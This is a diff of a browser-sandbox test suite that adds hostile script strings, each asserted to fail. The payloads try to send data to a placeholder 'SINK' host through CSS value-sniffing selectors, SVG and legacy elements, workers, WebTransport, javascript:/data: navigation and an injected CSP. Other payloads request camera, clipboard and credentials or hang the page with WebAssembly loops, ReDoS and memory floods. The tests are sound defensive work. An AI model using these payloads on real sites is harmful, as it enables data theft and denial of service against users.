@@ -97,6 +97,24 @@ describe('calling out', () => {
       'another base',
       `document.head.append(Object.assign(document.createElement('base'), { href: 'SINK/' })); new Image().src = 'relative'`,
     ],
+    [
+      'CSS that looks at what is typed',
+      `document.head.append(Object.assign(document.createElement('style'), { textContent: 'crowd-input[value^="x"], input[value^="x"] { background: url(SINK/typed-x) } @import "SINK/import.css"; @font-face { font-family: f; src: url(SINK/face) } body { font-family: f }' }))`,
+    ],
+    ['a shared worker', `try { new SharedWorker('data:text/javascript,fetch("SINK/shared")') } catch {}`],
+    ['WebTransport', `try { new WebTransport('SINK/transport'.replace('http:', 'https:')).closed.catch(() => {}) } catch {}`],
+    [
+      'pictures inside of pictures',
+      `document.body.insertAdjacentHTML('beforeend', '<svg><image href="SINK/svg"/><use href="SINK/use#a"/><foreignObject><img src="SINK/foreign"></foreignObject><filter id="f"><feImage href="SINK/filter"/></filter></svg><picture><source srcset="SINK/source"><img srcset="SINK/srcset 2x"></picture><input type="image" src="SINK/input">')`,
+    ],
+    [
+      'old elements',
+      `document.body.insertAdjacentHTML('beforeend', '<embed src="SINK/embed"><table background="SINK/table"><tr><td>x</td></tr></table><link rel="icon" href="SINK/icon"><link rel="manifest" href="SINK/manifest"><fencedframe></fencedframe><portal src="SINK/portal"></portal><track src="SINK/track">')`,
+    ],
+    [
+      'a policy of its own',
+      `{ document.head.insertAdjacentHTML('afterbegin', '<meta http-equiv="Content-Security-Policy" content="default-src *">'); new Image().src = 'SINK/loosened' }`,
+    ],
   ])('by %s reaches nobody', async (_name, script) => {
     expect(await isHarmless(await attack(script))).toBe(true)
   })
@@ -136,8 +154,33 @@ describe('leaving', () => {
       `{ const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x'; document.body.append(a); a.click() }`,
     ],
     ['a dialog', `alert('x'); confirm('x'); prompt('x')`],
+    ['dialogs without end', `setInterval(() => { alert('x'); print() }, 5)`],
+    [
+      'a link of a script to the top',
+      `{ const a = document.createElement('a'); a.href = 'javascript:location="SINK/js"'; a.target = '_top'; document.body.append(a); a.click() }`,
+    ],
+    ['the history', `for (let i = 0; i < 300; i++) { try { history.pushState(i, '') } catch {} }; try { history.go(-1) } catch {}`],
+    ['a question before leaving', `addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'x' })`],
+    ['a name for the window', `name = 'stolen'; try { parent.name = 'stolen' } catch {}`],
+    [
+      'the whole screen',
+      `document.addEventListener('click', () => { document.body.requestFullscreen?.().catch(() => {}); document.body.requestPointerLock?.() }); document.body.requestFullscreen?.().catch(() => {})`,
+    ],
   ])('by %s does not happen', async (_name, script) => {
     expect(await isHarmless(await attack(script))).toBe(true)
+  })
+
+  it.each([
+    ['a page of its own making', `URL.createObjectURL(new Blob(['<script>fetch("SINK/blob")</script>'], { type: 'text/html' }))`],
+    ['a page in its address', `'data:text/html,<img src=SINK/data>'`],
+    ['a script', `'javascript:document.write("<img src=SINK/written>")'`],
+  ])('for %s: nothing is reached from there', async (_name, address) => {
+    const shown = await attack(`setTimeout(() => { location = ${address} }, 300)`)
+    await shown.page.waitForTimeout(2000)
+    expect(reached).toEqual([])
+    expect(shown.page.url()).toBe(`${served.url}/harness`)
+    expect(context.pages()).toHaveLength(1)
+    await shown.page.close()
   })
 
   it('by itself: the frame goes nowhere, the page says that the task does not answer, and it can be loaded again', async () => {
@@ -177,6 +220,43 @@ describe('reading', () => {
     })
     expect(got['db']).toMatch(/SecurityError|IDBOpenDBRequest/)
     expect(got['caches']).toMatch(/SecurityError|ReferenceError|Promise/)
+    expect(await isHarmless(shown)).toBe(true)
+  })
+})
+
+describe('asking', () => {
+  it('the browser for what only a person gives: nothing is asked, and nothing is given', async () => {
+    const shown = await attack(`window.got = {}
+      const ask = (name, of) => { try { Promise.resolve(of()).then(() => { got[name] = 'given' }, (error) => { got[name] = error.name ?? String(error) }) } catch (error) { got[name] = error.name } }
+      ask('place', () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, (e) => no({ name: 'denied ' + e.code }))))
+      ask('camera', () => navigator.mediaDevices.getUserMedia({ video: true })); ask('sound', () => navigator.mediaDevices.getUserMedia({ audio: true }))
+      ask('screen', () => navigator.mediaDevices.getDisplayMedia()); ask('read', () => navigator.clipboard.readText())
+      ask('write', () => navigator.clipboard.writeText('stolen')); ask('lock', () => navigator.wakeLock.request('screen'))
+      ask('credential', () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }))
+      ask('usb', () => navigator.usb.requestDevice({ filters: [] })); ask('storage', () => document.requestStorageAccess())
+      ask('notice', () => Notification.requestPermission().then((answer) => answer === 'granted' ? 1 : Promise.reject({ name: answer })))`)
+    await shown.page.waitForTimeout(1500)
+    const got = await (await shown.frame()).evaluate<Record<string, string>>('got')
+    const names = ['place', 'camera', 'sound', 'screen', 'read', 'write', 'lock', 'credential', 'usb', 'storage', 'notice']
+    expect(names.filter((name) => got[name] === undefined || got[name] === 'given')).toEqual([])
+    expect(await isHarmless(shown)).toBe(true)
+  })
+
+  it('other tabs, and pages that come later, through what browsers share', async () => {
+    const shown = await attack(`window.heard = []
+      try { const channel = new BroadcastChannel('x'); channel.onmessage = ({ data }) => heard.push(data); channel.postMessage('from the template') } catch {}`)
+    const heard = await shown.page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          const said: unknown[] = []
+          const channel = new BroadcastChannel('x')
+          channel.addEventListener('message', ({ data }) => said.push(data))
+          channel.postMessage('from the page')
+          setTimeout(() => resolve(said), 500)
+        }),
+    )
+    expect(heard).toEqual([])
+    expect(await (await shown.frame()).evaluate('heard')).toEqual([])
     expect(await isHarmless(shown)).toBe(true)
   })
 })
@@ -223,6 +303,44 @@ describe('taking the browser', () => {
     expect(performance.now() - started).toBeLessThan(3000)
     await expect.poll(() => shown.notice().catch(() => ''), { timeout: 25_000 }).toContain('does not answer')
     expect(await shown.page.getByRole('button', { name: 'Load the page again' }).isEnabled()).toBe(true)
+    await shown.page.close()
+  })
+
+  it.each([
+    [
+      'a machine language that does not end',
+      `setTimeout(() => new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11]))).exports.f(), 200)`,
+    ],
+    ['rules that never end', `setTimeout(() => /^(a+)+$/.test('a'.repeat(60) + 'b'), 200)`],
+  ])('by %s: the page around it stays usable and says so', async (_name, script) => {
+    const shown = await attack(script)
+    await expect.poll(() => shown.notice().catch(() => ''), { timeout: 25_000 }).toContain('does not answer')
+    expect(await shown.page.getByRole('button', { name: 'Load the page again' }).isEnabled()).toBe(true)
+    await shown.page.close()
+  })
+
+  it.each([
+    [
+      'a flood of messages',
+      `{ let n = 0; const flood = setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage({ canut: 'x', kind: 'height', px: i, text: 'x'.repeat(2000) }, '*'); if (++n > 40) clearInterval(flood) }, 10) }`,
+    ],
+    ['a hundred thousand elements', `document.body.insertAdjacentHTML('beforeend', '<i>x</i>'.repeat(100000))`],
+    ['a gigabyte of memory', `window.kept = []; for (let i = 0; i < 10; i++) kept.push(new Uint8Array(100_000_000))`],
+    [
+      'music',
+      `{ const audio = new Audio('data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA='); audio.loop = true; audio.play().catch(() => {}) }`,
+    ],
+  ])('by %s does no harm to the task', async (_name, script) => {
+    expect(await isHarmless(await attack(script))).toBe(true)
+  })
+
+  it('by taking the focus again and again: keys outside of the frame still work', async () => {
+    const shown = await attack(`document.querySelector('crowd-input').focus(); window.focus()
+      setInterval(() => { window.focus(); document.querySelector('crowd-input').focus() }, 50)`)
+    const outer = shown.page.getByRole('button', { name: 'Outer submit' })
+    await outer.focus()
+    await shown.page.waitForTimeout(500)
+    expect(await outer.evaluate((button) => button === document.activeElement)).toBe(true)
     await shown.page.close()
   })
 
